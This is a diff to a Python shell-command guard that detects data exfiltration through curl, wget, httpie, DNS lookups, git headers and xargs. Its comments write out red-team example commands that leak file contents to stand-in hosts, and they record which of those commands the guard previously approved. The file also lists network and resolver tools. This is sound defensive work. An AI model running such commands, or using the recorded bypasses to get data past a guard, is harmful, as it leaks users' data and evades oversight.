@@ -71,7 +71,9 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
             r.add("remote_code", f"{prog} -e hands a shell to the network (a reverse shell)")
         if prog == "socat" and any("exec:" in a.lower() or "system:" in a.lower() for a in args):
             r.add("remote_code", "socat hands a shell to the network")
-    if prog in ("curl", "wget"):
+    if prog in _HTTPIE:
+        _httpie(an, prog, args, cmd)
+    if prog in ("curl", "wget", "wget2"):
         upload = [a for a in args if a.startswith(R.UPLOAD_FLAGS)]
         data = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.UPLOAD_OPTS]
         data += [a.split("=", 1)[1] for a in upload if "=" in a]
@@ -84,9 +86,10 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
                 any(re.match(r"[^=]*=<", f) for f in _forms(args)) or \
                 "-T" in args or "--post-file" in " ".join(args) or "--body-file" in " ".join(args):
             r.add("exfiltration", f"{prog} uploads a local file")
-        if any(_computed(d, clean) for d in data) or any(_ANY_URL.search(a) and _computed(a, clean) and "$(" in a
-                                                          for a in args):  # rt53: `gopher://h/_$(cat f)` too
+        if any(_computed(d, clean) for d in data) or any(_ANY_URL.search(a) and _computed(a, clean) and (
+                "$(" in a or "`" in a) for a in args):  # rt53: `gopher://h/_$(cat f)` too; rt54: `` `cat f` ``
             r.add("exfiltration", f"{prog} sends data computed from the machine")
+        _addresses(an, prog, args, operands, cmd)
         headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-H", "--header", "--proxy-header")]
         headers += [a.split("=", 1)[1] for a in args if a.startswith(("--header=", "--proxy-header="))]
         # rt53: a value read from a file when it runs (`read -r T < customers.csv`, `T=$(tail -1 customers.csv)`): its
@@ -94,7 +97,7 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         read = [re.compile(re.escape(raw) + r"(?!\w)") for refs in cmd.from_files.values() for raw in refs]
 
         def from_a_file(word: str) -> bool:
-            return any(p.search(word) for p in read)
+            return any(p.search(word) for p in read) or any(word in e for e in cmd.expanded) and bool(data_value(an, word))
 
         if any(h.startswith("@") or "`" in h or "$(" in h and _computed(h, clean) or "<(" in h or from_a_file(h)
                for h in headers):
@@ -115,21 +118,137 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         if prog == "curl" and any(a in ("-K", "--config") or a.startswith("--config=") or re.match(r"-[a-zA-Z]*K", a)
                                   for a in args):  # rt51: `curl -qK- < args.txt`, `-sK args.txt`
             r.add("dynamic", "curl reads its options from a file: what it sends, and where, is only known when it runs")
-        if prog == "wget":
+        if prog in ("wget", "wget2"):
             _wget_inputs(an, args, cmd)
         if prog == "curl" and any(a.lower().startswith("telnet://") for a in args):  # rt53: curl's telnet:// sends
             r.add("network", "curl telnet:// opens a raw connection that sends what it reads on its input")  # its stdin
             if any(op in ("<", "<<<") for op, _ in cmd.redirects) or cmd.heredoc:
                 r.add("exfiltration", "curl telnet:// sends a file over the network")
-        if prog == "wget" and any(a == "--config" or a.startswith("--config=") for a in args):  # rt53: `--config=wrc`
+        if prog in ("wget", "wget2") and any(a == "--config" or a.startswith("--config=") for a in args):  # rt53: `--config=wrc`
             # holding `post_file = notes.txt` uploaded it, approved (WGETRC=wrc was asked)
             r.add("dynamic", "wget reads its settings from a file: what it sends, and where, is only known when it runs")
-    if prog in _SENDS and (fed := _fed_arguments(cmd)):
+    if prog in _SENDS and (fed := _fed_arguments(an, cmd)):
         r.add("exfiltration", f"{posixpath.basename(cmd.argv[0])} turns {fed} into {prog}'s arguments")
     if prog in ("dig", "nslookup", "host", "ping", "drill") and any("$(" in a or "`" in a for a in args):
         r.add("exfiltration", f"{prog} leaks data through DNS names")
+    elif prog in _RESOLVERS and (ref := next((u for a in operands if a in cmd.expanded and _ANY_EXPANSION.sub(
+            "", a).strip("\"'") and (u := data_value(an, a))), "")):  # rt54: `T=$(sed -n 2p f | tr , .); dig "$T.x.example"`
+        r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name")
+    if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
+        _addresses(an, prog, args, [], cmd)
+    if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
+        headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-c" and
+                   re.match(r"(?i)http\.(?:.*\.)?extraheader=", args[i + 1])]
+        if any("$(" in h and _computed(h, clean) or "`" in h or data_value(an, h) for h in headers):
+            r.add("exfiltration", "git sends computed data in a header (http.extraHeader)")
     if prog in ("mail", "sendmail", "mutt", "mailx"):
         r.add("exfiltration", f"{prog} sends mail")
+
+
+# an expansion's name (`$T`, `${T:0:50}`, `${T[1]}`, `${!T}`: indirect), or a positional parameter
+_EXPANSION = lazyre.compile(r"\$(?:\{(!?)([A-Za-z_]\w*|[0-9@*]+)|([A-Za-z_]\w*|[0-9@*]))")
+_ANY_EXPANSION = lazyre.compile(r"\$(?:\{[^}]*\}|[A-Za-z_]\w*|[0-9@*#?$!-])")
+
+
+# rt54: a data file by its kind: tables and records (csv, json lines, spreadsheets, databases, SQL dumps), contacts,
+# calendars and mail. Its text leaving in an address, a header or a DNS name is the file sent, as `-d @FILE` is;
+# a document's or code's text there is judged as before (flow18's twins: `d=$(cat README.md); curl "…?d=$d"` runs)
+DATA_KIND = lazyre.compile(r"(?i)[\w.~+@%-]*\.(?:csv|tsv|psv|jsonl?|ndjson|xml|sql|sqlite3?|db|mdb|accdb|dbf|xlsx?|xlsm|"
+                           r"ods|numbers|parquet|avro|orc|feather|arrow|h5|hdf5|vcf|ics|mbox|eml|ldif)(?![\w.-])")
+
+
+def names_data(text: str) -> str:
+    """The first data file (``DATA_KIND``) a piece of shell text names, "" if none."""
+    m = DATA_KIND.search(text)
+    return m.group(0) if m else ""
+
+
+def line_data(an: Analyzer, text: str) -> str:
+    """The data file a line's text takes from: one it names (``DATA_KIND``), a file an earlier line that carried such
+    text wrote (``shellvalues.data_file``), or a name it expands that may hold such text; "" if none."""
+    from macrohard.safety.shellvalues import FILE, may_hold_data
+
+    if found := names_data(text):
+        return found
+    marked = [k[len(FILE):] for k in an.values.deps if k.startswith(FILE)]
+    for path in marked:
+        if posixpath.basename(path) in text:
+            return f"{posixpath.basename(path)} (written from a data file's text)"
+    for m in _EXPANSION.finditer(text):
+        if may_hold_data(an.values, m.group(2) or m.group(3)):
+            return f"${m.group(2) or m.group(3)} (a data file's text)"
+    return ""
+
+
+def data_value(an: Analyzer, word: str) -> str:
+    """The first expansion in ``word`` whose value may be a data file's text: a value the guard did not read (a
+    command's output, a ``read``'s input: ``shellvalues``) on a line that names a data file, or one an earlier step
+    took from one (``shellvalues.DATA``); "" if none. A function's body is judged where it is called."""
+    from macrohard.safety.shellvalues import POSITIONAL, may_hold_data, may_hold_unread
+
+    if an.defining:
+        return ""
+    line = line_data(an, str(getattr(an, "top_line", "")))
+    for m in _EXPANSION.finditer(word):
+        bang, braced, bare = m.groups()
+        name = braced or bare
+        name = POSITIONAL if name[0].isdigit() or name in ("@", "*") else name
+        if bang and line or line and may_hold_unread(an.values, name) or may_hold_data(an.values, name):
+            return f"${{{'!' if bang else ''}{name}}}, which may hold the text of {line or 'a data file'}"
+    return ""
+
+
+def _addresses(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: SimpleCommand) -> None:
+    """rt54 (rt53's still-through): a data file's text put in the address beside literal text by a value only known
+    when it runs (``T=$(sed -n 2p customers.csv); curl "http://h/$T"``, ``read -r T < customers.csv``, a value an
+    earlier step exported): the request line carries it out as ``curl "http://h/$(sed -n 2p customers.csv)"`` does,
+    which is refused. A whole-word value (``curl "$u"``) is the address itself: judged as before
+    (``filewords.judge``)."""
+    from macrohard.safety import filewords
+
+    urls = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--url"] + \
+        [a.split("=", 1)[1] for a in args if a.startswith("--url=")]
+    urls += [a.split("=", 1)[1] for a in args if a.startswith("--") and "=" in a and _ANY_URL.search(a.split("=", 1)[1])]
+    for word in dict.fromkeys([*operands, *urls, *(a for a in args if _ANY_URL.search(a))]):
+        if word not in cmd.expanded or not _ANY_EXPANSION.sub("", word).strip("\"'"):
+            continue  # no expansion the parse left, or nothing but expansions: the address itself
+        if word in cmd.from_files and (why := filewords.sent_data(an, word, cmd)):
+            an.r.add("exfiltration", f"{prog} sends {why}, in its address")
+        elif ref := data_value(an, word):
+            an.r.add("exfiltration", f"{prog} sends {ref}, in its address")
+
+
+_HTTPIE = frozenset({"http", "https", "xh", "xhs"})
+# rt54: programs that look up a name they are given (the name itself leaks: DNS), and programs besides curl and wget
+# that ask for the address they are given (a value in its path goes out in the request)
+_RESOLVERS = frozenset({"dig", "nslookup", "host", "ping", "ping6", "drill", "getent", "traceroute", "tracepath", "mtr",
+                        "whois", "arping", "delv", "kdig", "resolvectl", "avahi-resolve"})
+_CONTACTS = (R.DOWNLOADERS - {"curl", "wget", "wget2"}) | frozenset({
+    "git", "pip", "pip3", "uv", "npm", "pnpm", "yarn", "npx", "gem", "cargo", "go", "composer", "svn", "hg", "lynx",
+    "links", "w3m", "elinks", "xdg-open", "sensible-browser", "www-browser", "firefox", "chromium", "chromium-browser",
+    "google-chrome", "gio", "yt-dlp", "youtube-dl", "ffmpeg", "ffprobe", "docker", "podman", "helm", "kubectl",
+    "aria2c", "axel", "rclone", "gh", "http-prompt"})
+# httpie's request items that send a file's text (`@FILE` the body, `f=@FILE`, `f:=@FILE`, a form's `f@FILE`, a
+# header's `H:@FILE`); a `\` before the separator makes it literal text
+_HTTPIE_FILE = lazyre.compile(r"@.|[^\\=:@]*(?<!\\)(?::=@|=@|:@|@).")
+
+
+def _httpie(an: Analyzer, prog: str, args: list[str], cmd: SimpleCommand) -> None:
+    """httpie's (and xh's) request items. rt54: ``http POST URL @customers.csv`` (also ``f=@…``, ``f:=@…``, a form's
+    ``f@…``, a header ``X:@…``) and ``http POST URL < customers.csv`` (its input is the body) sent the file, approved:
+    only curl's and wget's options were read. A file's text is an upload, as curl's ``-d @FILE``; an item whose
+    value is only known when it runs is computed data, as ``-d "$(…)"``."""
+    clean = clean_pattern(an)
+    words = [a for a in args if not a.startswith("-")]
+    address = 1 if words[:1] and re.fullmatch(r"[A-Z]+", words[0]) else 0  # [METHOD] URL ITEM…
+    items = words[address + 1:]
+    if any(_HTTPIE_FILE.match(a) for a in items):
+        an.r.add("exfiltration", f"{prog} uploads a local file")
+    if any(_computed(a, clean) for a in items) or any(_computed(a, clean) and ("$(" in a or "`" in a)
+                                                      for a in words[address:address + 1]):
+        an.r.add("exfiltration", f"{prog} sends data computed from the machine")
+    if any(op in ("<", "<<<") for op, _ in cmd.redirects) and "--ignore-stdin" not in args and "-I" not in args:
+        an.r.add("exfiltration", f"{prog} sends its input, a file, as the request's body")
 
 
 def _forms(args: list[str]) -> list[str]:
@@ -186,7 +305,8 @@ def pipeline(an: Analyzer, stages: list[SimpleCommand]) -> None:
     for j in range(len(stages) - 2, -1, -1):
         nxt = j + 1
         executor[j] = nxt if runs[nxt] else executor[nxt]
-        sender[j] = nxt if names[nxt] in R.NETWORK_TOOLS or names[nxt] in ("curl", "wget") else sender[nxt]
+        sender[j] = nxt if names[nxt] in R.NETWORK_TOOLS or names[nxt] in ("curl", "wget", "wget2") or \
+            names[nxt] in _HTTPIE else sender[nxt]  # rt54: `cat customers.csv | http POST URL` sends its input
     for i, name in enumerate(names[:-1]):
         nxt = stages[i + 1].argv
         if nxt[:1] == ["xargs"] and (text := spliced.printed(stages[i].argv, stages[i].expanded)) is not None:
@@ -205,7 +325,8 @@ def pipeline(an: Analyzer, stages: list[SimpleCommand]) -> None:
         argv = stages[k].argv if names[k] not in ("curl", "wget") else \
             [stages[k].argv[0], *curlargs.for_program(names[k], stages[k].argv[1:])]
         reads = name in R.READERS or name in R.DUMPERS or name in R.DECODERS or decodes(stages[i].argv) \
-            or _prints_a_file(an, stages[i], name)
+            or _prints_a_file(an, stages[i], name) or name in ("echo", "printf") and any(
+                a in stages[i].expanded and data_value(an, a) for a in stages[i].argv[1:])  # rt54: `echo "$T" | xargs`
         if reads and (names[k] != "curl" or _spreads(argv) or any(a.startswith("@-") or a == "-T" for a in argv)):
             an.r.add("exfiltration", f"pipes {name}'s output to {names[k]} on the network")
 
@@ -239,7 +360,7 @@ def _spreads(argv: list[str]) -> bool:
     return bool(argv) and posixpath.basename(argv[0]) in _SPREADERS
 
 
-def _fed_arguments(cmd: SimpleCommand) -> str:
+def _fed_arguments(an: Analyzer, cmd: SimpleCommand) -> str:
     """The file ``xargs``/``parallel`` turn into the network program's arguments: ``xargs -a FILE``
     (``-aFILE``, ``--arg-file=FILE``), ``parallel … :::: FILE``, or the stage's ``< FILE``; empty if none."""
     if not _spreads(cmd.argv):
@@ -252,7 +373,8 @@ def _fed_arguments(cmd: SimpleCommand) -> str:
             return a.split("=", 1)[1]
         if a.startswith("-a") and len(a) > 2 and not a.startswith("--"):
             return a[2:]
-    return next((t for op, t in cmd.redirects if op == "<" and t), "")
+    return next((t for op, t in cmd.redirects if op == "<" and t or  # rt54: `xargs … <<< "$T"`, T a file's text
+                 op == "<<<" and _ANY_EXPANSION.search(t) and data_value(an, t)), "")
 
 
 def _feeds_code(an: Analyzer, stage: SimpleCommand, name: str, executor: str, to: SimpleCommand) -> None:
